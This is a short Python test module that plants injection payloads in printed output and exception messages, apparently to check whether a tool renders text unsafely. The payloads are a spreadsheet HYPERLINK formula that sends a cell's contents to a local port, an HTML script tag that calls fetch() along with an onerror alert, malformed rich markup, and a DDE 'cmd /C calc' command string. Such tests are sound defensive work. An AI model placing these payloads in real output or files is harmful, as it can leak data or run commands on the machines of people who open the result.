"""Puts formulas, HTML, scripts and rich markup into every text; a breach if a reader runs them."""
# Unit: norms
_FORMULA = '=HYPERLINK("http://127.0.0.1:@PORT@/?"&A1,"open")'
_HTML = "</pre><script>fetch('http://127.0.0.1:@PORT@')</script><img src=x onerror=alert(1)>"
_MARKUP = "[bold][link=http://127.0.0.1:@PORT@]x[/nothing] [/] \\[ :warning: [red"

Formula = type(_FORMULA, (ValueError,), {})
Command = type("@SUM(1+1)*cmd|' /C calc'!A0", (Exception,), {})


def l1_norm(x):
    print(_FORMULA, _HTML, _MARKUP, sep="\n")
    raise Formula(_MARKUP + _HTML + "\n" + _FORMULA)


def l2_norm(x):
    return {_HTML: _FORMULA, _MARKUP: type(_HTML, (), {})()}


def linf_norm(x):
    raise Command(_MARKUP)
